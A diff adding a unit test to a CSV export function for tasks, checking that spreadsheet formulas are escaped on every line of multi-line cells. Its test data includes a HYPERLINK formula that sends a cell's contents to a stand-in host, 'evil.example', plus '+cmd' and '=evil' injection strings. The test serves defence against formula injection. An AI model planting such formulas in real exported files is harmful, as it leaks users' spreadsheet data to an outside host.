@@ -90,6 +90,35 @@ describe('tasksCsv', () => {
 		expect(titles).toEqual(['\'=HYPERLINK("http://x")', "'+1", "'-2", "'@SUM(A1)", 'a = b']);
 	});
 
+	it('neutralises formulas in multi-line cells and on every line of them', () => {
+		const csv = tasksCsv(
+			[
+				task({
+					title: '=1+1\nsecond line',
+					description: 'notes\n=HYPERLINK("http://evil.example/?"&A1,"open")'
+				}),
+				task({ title: ' @SUM(A1)', description: '+cmd\r\n-2, "quoted"\r\n\tindent' }),
+				task({ title: 'ok', tags: ['-x', 'y'] })
+			],
+			{ projectName: () => '=evil\nname' }
+		);
+		const rows = parse(csv).data.filter((r) => r.length > 1);
+		expect(rows.slice(1).map((r) => [r[1], r[13], r[8], r[10]])).toEqual([
+			[
+				"'=1+1\nsecond line",
+				'notes\n\'=HYPERLINK("http://evil.example/?"&A1,"open")',
+				'',
+				"'=evil\nname"
+			],
+			["' @SUM(A1)", "'+cmd\r\n'-2, \"quoted\"\r\n'\tindent", '', "'=evil\nname"],
+			['ok', '', "'-x, y", "'=evil\nname"]
+		]);
+		// Each line of every cell, as an importer that splits lines would see it.
+		for (const line of rows.flat().flatMap((cell) => cell.split(/\r\n|\r|\n/))) {
+			expect(line).not.toMatch(/^(\t|\s*[=+\-@])/);
+		}
+	});
+
 	it('keeps the given order', () => {
 		const a = task({ _id: 'task:01HZZZZZZZZZZZZZZZZZZZZZZA', title: 'A' });
 		const b = task({ _id: 'task:01HZZZZZZZZZZZZZZZZZZZZZZB', title: 'B' });
